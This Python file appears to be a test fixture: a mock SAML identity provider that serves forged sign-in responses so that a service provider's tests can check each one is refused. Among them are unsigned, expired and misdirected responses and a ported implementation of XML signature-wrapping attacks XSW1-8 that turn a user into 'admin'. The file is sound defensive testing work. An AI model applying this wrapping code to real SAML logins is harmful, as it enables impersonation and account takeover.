"""A SAML 2.0 identity provider for the tests: pysaml2 (PyPI) signing with Debian's xmlsec1.

    .venv/bin/python tests/py/saml-idp.py '{"port": 0}'

Prints one JSON line when it listens: {"metadata_url", "entity_id", "sso_url"}. Then:

  GET  /metadata          the IdP's metadata (an HTTP-Redirect SingleSignOnService, its
                          signing certificate; WantAuthnRequestsSigned as /_test/sp set it)
  PUT  /_test/sp          registers the service provider, as an operator does at an IdP:
                          {"entity_id", "acs_urls", "signing_certificate" (base64 DER, from
                          GetSigningCertificate), "encryption_certificate" (ActiveEncryptionCertificate),
                          "want_signed_requests": bool}
  PUT  /_test/next        what the next sign-in answers: {"name_id", "attributes": {name: [values]},
                          "mode": one of the modes below, "encrypt": bool}
  GET  /slo/redirect      a signed LogoutRequest (HTTP-Redirect), answered with a signed
                          LogoutResponse posted to the SP's SingleLogoutService
  GET  /_test/last_logout the last LogoutRequest's NameID, SessionIndexes and Issuer
  GET  /_test/metadata_reads  how many times /metadata was fetched
  GET  /sso/redirect      the AuthnRequest (HTTP-Redirect binding; its signature checked when the
                          SP was registered with want_signed_requests), answered at once for the
                          user set by /_test/next with pysaml2's HTTP-POST form (the tests post it,
                          as the browser would). A refused request: HTTP 400 with the reason.

Modes, each a Response a real IdP could be made to send, signed by this IdP unless said:
  ok, unsigned (no signature at all), audience (another SP's audience), recipient (Destination and
  Recipient another site's ACS), expired (NotOnOrAfter 10 minutes ago), unsolicited_id (InResponseTo
  a request never made), fixed_ids (the same Response and Assertion IDs every time), other_key
  (signed by a key not in the metadata);
  xsw1 … xsw8: the signature-wrapping attacks of "On Breaking SAML" (Somorovsky et al., 2012), as
  SAML Raider applies them (CompassSecurity/SAMLRaider, helpers/XSWHelpers.java, ported below):
  a genuine Response for `name_id` (signed on the Response for 1-2, on the Assertion for 3-8) is
  rewrapped so that an evil copy, whose NameID `name_id` (and `<name_id>@corp.example`) become admin's, sits where a
  naive reader looks.
"""

import datetime
import functools
import json
import os
import sys
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlparse
from xml.dom import minidom

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
import saml2
import saml2.assertion
import saml2.entity
import saml2.sigver
import saml2.xmldsig
from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT
from saml2.attribute_converter import AttributeConverterNOOP
from saml2.s_utils import do_ava, factory
from saml2.config import IdPConfig
from saml2.metadata import entity_descriptor
from saml2.saml import NAME_FORMAT_BASIC, NAMEID_FORMAT_PERSISTENT, NameID
from saml2.server import Server

XMLSEC = "/usr/bin/xmlsec1"

# pysaml2 encrypts assertions with 3DES-CBC, hard-coded; IdPs today use AES (Okta, Entra ID: AES-256),
# and AWS-LC has no 3DES. Its encryption template, with AES-256-GCM.
saml2.entity.pre_encryption_part = functools.partial(
    saml2.sigver.pre_encryption_part, msg_enc="http://www.w3.org/2009/xmlenc11#aes256-gcm"
)


def key_pair(directory, name):
    """An RSA 2048 key and a self-signed certificate, as PEM files."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, f"Tessera test IdP {name}")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=2))
        .sign(key, hashes.SHA256())
    )
    key_file = os.path.join(directory, f"{name}.key")
    cert_file = os.path.join(directory, f"{name}.pem")
    with open(key_file, "wb") as f:
        f.write(
            key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.TraditionalOpenSSL,
                serialization.NoEncryption(),
            )
        )
    with open(cert_file, "wb") as f:
        f.write(cert.public_bytes(serialization.Encoding.PEM))
    return key_file, cert_file


def pem_of(der_base64):
    lines = [der_base64[i : i + 64] for i in range(0, len(der_base64), 64)]
    return "-----BEGIN CERTIFICATE-----\n" + "\n".join(lines) + "\n-----END CERTIFICATE-----\n"


def xsw(number, xml, replace):
    """SAML Raider's XSW1-8 on `xml`; `replace` maps text values to the evil ones."""
    doc = minidom.parseString(xml)

    def first(node, name):
        return node.getElementsByTagNameNS("*", name)[0]

    def evil(node):
        for child in list(node.childNodes):
            if child.nodeType == child.ELEMENT_NODE:
                evil(child)
            elif child.nodeType == child.TEXT_NODE and child.data in replace:
                child.data = replace[child.data]

    root = doc.documentElement
    if number in (1, 2):
        response = first(doc, "Response")
        cloned = response.cloneNode(True)
        evil(response)
        signature = first(cloned, "Signature")
        signature.parentNode.removeChild(signature)
        signature = first(response, "Signature")
        if number == 1:
            signature.appendChild(cloned)
        else:
            signature.parentNode.insertBefore(cloned, signature)
        response.setAttribute("ID", "_evil_response_ID")
    elif number in (3, 4):
        assertion = first(doc, "Assertion")
        evil_assertion = assertion.cloneNode(True)
        evil(evil_assertion)
        copied = first(evil_assertion, "Signature")
        evil_assertion.setAttribute("ID", "_evil_assertion_ID")
        copied.parentNode.removeChild(copied)
        if number == 3:
            root.insertBefore(evil_assertion, assertion)
        else:
            root.appendChild(evil_assertion)
            evil_assertion.appendChild(assertion)
    elif number in (5, 6, 8):
        evil_assertion = first(doc, "Assertion")
        original_signature = first(evil_assertion, "Signature")
        assertion = evil_assertion.cloneNode(True)
        evil(evil_assertion)
        copied = first(assertion, "Signature")
        copied.parentNode.removeChild(copied)
        if number == 5:
            root.appendChild(assertion)
            evil_assertion.setAttribute("ID", "_evil_assertion_ID")
        elif number == 6:
            original_signature.appendChild(assertion)
            evil_assertion.setAttribute("ID", "_evil_assertion_ID")
        else:
            obj = doc.createElement("Object")
            original_signature.appendChild(obj)
            obj.appendChild(assertion)
    elif number == 7:
        assertion = first(doc, "Assertion")
        extensions = doc.createElement("Extensions")
        root.insertBefore(extensions, assertion)
        evil_assertion = assertion.cloneNode(True)
        evil(evil_assertion)
        copied = first(evil_assertion, "Signature")
        copied.parentNode.removeChild(copied)
        extensions.appendChild(evil_assertion)
    return root.toxml()


ANOTHER_SP = "urn:amazon:cognito:sp:us-east-1_another"


class AttributesAsGiven(AttributeConverterNOOP):
    """Attribute names exactly as given: pysaml2's NOOP converter lowercases them."""

    def to_(self, attrvals):
        return [
            factory(saml2.saml.Attribute, name=k, name_format=self.name_format, attribute_value=do_ava(v))
            for k, v in attrvals.items()
        ]


def sp_metadata(sp, entity_id=None):
    """The SP's metadata as an operator would enter it at the IdP."""
    keys = ""
    for use, cert in (("signing", sp.get("signing_certificate")), ("encryption", sp.get("encryption_certificate"))):
        if cert:
            keys += (
                f'<md:KeyDescriptor use="{use}"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert}'
                "</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>"
            )
    signed = "true" if sp.get("want_signed_requests") else "false"
    return (
        '<?xml version="1.0"?><md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" '
        f'xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="{entity_id or sp["entity_id"]}">'
        f'<md:SPSSODescriptor AuthnRequestsSigned="{signed}" WantAssertionsSigned="true" '
        'protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
        f"{keys}"
        f"<md:NameIDFormat>{NAMEID_FORMAT_PERSISTENT}</md:NameIDFormat>"
        + "".join(
            f'<md:SingleLogoutService Binding="{BINDING_HTTP_POST}" '
            f'Location="{url.replace("/saml2/idpresponse", "/saml2/logout")}"/>'
            for url in sp["acs_urls"][:1]
        )
        + "".join(
            f'<md:AssertionConsumerService Binding="{BINDING_HTTP_POST}" Location="{url}" index="{i}"/>'
            for i, url in enumerate(sp["acs_urls"])
        )
        + "</md:SPSSODescriptor></md:EntityDescriptor>"
    )


class Idp:
    def __init__(self, port):
        self.dir = tempfile.mkdtemp(prefix="tessera-saml-idp-")
        self.key_file, self.cert_file = key_pair(self.dir, "signing")
        self.other_key_file, self.other_cert_file = key_pair(self.dir, "other")
        self.base = f"http://127.0.0.1:{port}"
        self.sp = None
        self.next = {"name_id": "user-1", "attributes": {}, "mode": "ok", "encrypt": False}
        self.lock = threading.Lock()
        self.last_logout = None
        self.metadata_reads = 0
        self.server = self.make_server(self.key_file, self.cert_file)

    def config(self, key_file, cert_file):
        # Another app's SP at the same IdP (same ACS): the audience case answers as for it.
        inline = [sp_metadata(self.sp), sp_metadata(self.sp, ANOTHER_SP)] if self.sp else []
        want_signed = bool(self.sp and self.sp.get("want_signed_requests"))
        conf = IdPConfig()
        conf.load(
            {
                "entityid": f"{self.base}/metadata",
                "service": {
                    "idp": {
                        "endpoints": {
                            "single_sign_on_service": [(f"{self.base}/sso/redirect", BINDING_HTTP_REDIRECT)],
                            "single_logout_service": [(f"{self.base}/slo/redirect", BINDING_HTTP_REDIRECT)],
                        },
                        "name_id_format": [NAMEID_FORMAT_PERSISTENT],
                        "want_authn_requests_signed": want_signed,
                        "policy": {"default": {"lifetime": {"minutes": 5}, "name_form": NAME_FORMAT_BASIC}},
                    }
                },
                "key_file": key_file,
                "cert_file": cert_file,
                "encryption_keypairs": [{"key_file": key_file, "cert_file": cert_file}],
                "xmlsec_binary": XMLSEC,
                "metadata": {"inline": inline},
                "signing_algorithm": saml2.xmldsig.SIG_RSA_SHA256,
                "digest_algorithm": saml2.xmldsig.DIGEST_SHA256,
            }
        )
        # Attribute names exactly as given (simple or URI), as Okta and Entra ID send them.
        conf.attribute_converters = [AttributesAsGiven(NAME_FORMAT_BASIC)]
        return conf

    def make_server(self, key_file, cert_file):
        server = Server(config=self.config(key_file, cert_file))
        # With the AES-256-GCM template above, an AES-256 session key (pysaml2 asks xmlsec1 for a
        # 3DES one).
        encrypt = server.sec.encrypt_assertion
        server.sec.encrypt_assertion = lambda statement, enc_key, template, key_type=None, node_xpath=None: encrypt(
            statement, enc_key, template, "aes-256", node_xpath
        )
        return server

    def metadata(self):
        return str(entity_descriptor(self.server.config))

    def register_sp(self, sp):
        with self.lock:
            self.sp = sp
            self.server = self.make_server(self.key_file, self.cert_file)

    def logout(self, query):
        """The auto-post form of the LogoutResponse to the signed LogoutRequest in `query`."""
        fields = {k: v[0] for k, v in parse_qs(query).items()}
        if "Signature" not in fields:
            raise ValueError("the LogoutRequest is not signed")
        with self.lock:
            server = self.server
        req = server.parse_logout_request(
            fields["SAMLRequest"],
            BINDING_HTTP_REDIRECT,
            relay_state=fields.get("RelayState"),
            sigalg=fields.get("SigAlg"),
            signature=fields.get("Signature"),
        )
        message = req.message
        self.last_logout = {
            "name_id": message.name_id.text if message.name_id is not None else None,
            "session_indexes": [i.text for i in message.session_index],
            "issuer": message.issuer.text,
        }
        response = server.create_logout_response(
            message,
            [BINDING_HTTP_POST],
            sign=True,
            sign_alg=saml2.xmldsig.SIG_RSA_SHA256,
            digest_alg=saml2.xmldsig.DIGEST_SHA256,
        )
        args = server.response_args(message, [BINDING_HTTP_POST])
        http = server.apply_binding(
            BINDING_HTTP_POST, str(response), args["destination"], fields.get("RelayState", ""), response=True
        )
        return http["data"]

    def answer(self, query):
        """The auto-post form for the AuthnRequest in `query`, or raises ValueError."""
        fields = {k: v[0] for k, v in parse_qs(query).items()}
        with self.lock:
            server = self.server
            want = dict(self.next)
        if "SAMLRequest" not in fields:
            raise ValueError("no SAMLRequest")
        req = server.parse_authn_request(
            fields["SAMLRequest"],
            BINDING_HTTP_REDIRECT,
            relay_state=fields.get("RelayState"),
            sigalg=fields.get("SigAlg"),
            signature=fields.get("Signature"),
        )
        if self.sp and self.sp.get("want_signed_requests") and "Signature" not in fields:
            raise ValueError("the AuthnRequest is not signed")
        args = server.response_args(req.message, [BINDING_HTTP_POST])
        mode = want.get("mode", "ok")
        destination = args["destination"]
        if mode == "audience":
            args["sp_entity_id"] = ANOTHER_SP
        if mode == "recipient":
            args["destination"] = "https://evil.example.com/saml2/idpresponse"
        if mode == "unsolicited_id":
            args["in_response_to"] = "_a_request_never_made"
        signer = server
        if mode == "other_key":
            signer = self.make_server(self.other_key_file, self.other_cert_file)
        identity = {k: list(v) for k, v in want.get("attributes", {}).items()}
        sign_response = sign_assertion = mode != "unsigned"
        wrap = int(mode[3:]) if mode.startswith("xsw") else 0
        if wrap:
            sign_response, sign_assertion = wrap in (1, 2), wrap not in (1, 2)
        patches = []
        if mode == "expired":
            patches.append((saml2.assertion.Policy, "get_lifetime", lambda self, sp: {"minutes": -10}))
        if mode == "fixed_ids":
            patches.append((saml2.entity, "sid", lambda: "_fixed_response_id_0001"))
            patches.append((saml2.assertion, "sid", lambda: "_fixed_assertion_id_0001"))
        saved = [(obj, name, getattr(obj, name)) for obj, name, _ in patches]
        try:
            for obj, name, value in patches:
                setattr(obj, name, value)
            encrypt = bool(want.get("encrypt"))
            response = signer.create_authn_response(
                identity,
                userid=want["name_id"],
                name_id=NameID(format=NAMEID_FORMAT_PERSISTENT, text=want["name_id"]),
                authn={"class_ref": saml2.saml.AUTHN_PASSWORD},
                sign_response=sign_response,
                sign_assertion=sign_assertion,
                sign_alg=saml2.xmldsig.SIG_RSA_SHA256,
                digest_alg=saml2.xmldsig.DIGEST_SHA256,
                encrypt_assertion=encrypt,
                encrypt_assertion_self_contained=True,
                encrypt_cert_assertion=pem_of(self.sp["encryption_certificate"]) if encrypt else None,
                **args,
            )
        finally:
            for obj, name, value in saved:
                setattr(obj, name, value)
        response = str(response)
        if wrap:
            replace = {want["name_id"]: "admin", f"{want['name_id']}@corp.example": "admin@corp.example"}
            response = xsw(wrap, response, replace)
        http = server.apply_binding(BINDING_HTTP_POST, response, destination, fields.get("RelayState", ""), response=True)
        return http["data"]


def main():
    settings = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}
    httpd = ThreadingHTTPServer(("127.0.0.1", int(settings.get("port", 0))), None)
    idp = Idp(httpd.server_address[1])

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def reply(self, status, body, content_type="text/plain"):
            data = body.encode()
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self):
            url = urlparse(self.path)
            if url.path == "/metadata":
                idp.metadata_reads += 1
                return self.reply(200, idp.metadata(), "application/samlmetadata+xml")
            if url.path == "/_test/metadata_reads":
                return self.reply(200, json.dumps(idp.metadata_reads), "application/json")
            if url.path == "/_test/last_logout":
                return self.reply(200, json.dumps(idp.last_logout), "application/json")
            if url.path == "/slo/redirect":
                try:
                    return self.reply(200, idp.logout(url.query), "text/html")
                except Exception as e:  # the reason, for the test's assertion message
                    return self.reply(400, f"refused: {type(e).__name__}: {e}")
            if url.path == "/sso/redirect":
                try:
                    return self.reply(200, idp.answer(url.query), "text/html")
                except Exception as e:  # the reason, for the test's assertion message
                    return self.reply(400, f"refused: {type(e).__name__}: {e}")
            self.reply(404, "not found")

        def do_PUT(self):
            body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", "0"))) or b"{}")
            if self.path == "/_test/sp":
                idp.register_sp(body)
            elif self.path == "/_test/next":
                with idp.lock:
                    idp.next = body
            else:
                return self.reply(404, "not found")
            self.send_response(204)
            self.end_headers()

    httpd.RequestHandlerClass = Handler
    print(
        json.dumps(
            {
                "metadata_url": f"{idp.base}/metadata",
                "entity_id": f"{idp.base}/metadata",
                "sso_url": f"{idp.base}/sso/redirect",
            }
        ),
        flush=True,
    )
    httpd.serve_forever()


if __name__ == "__main__":
    main()
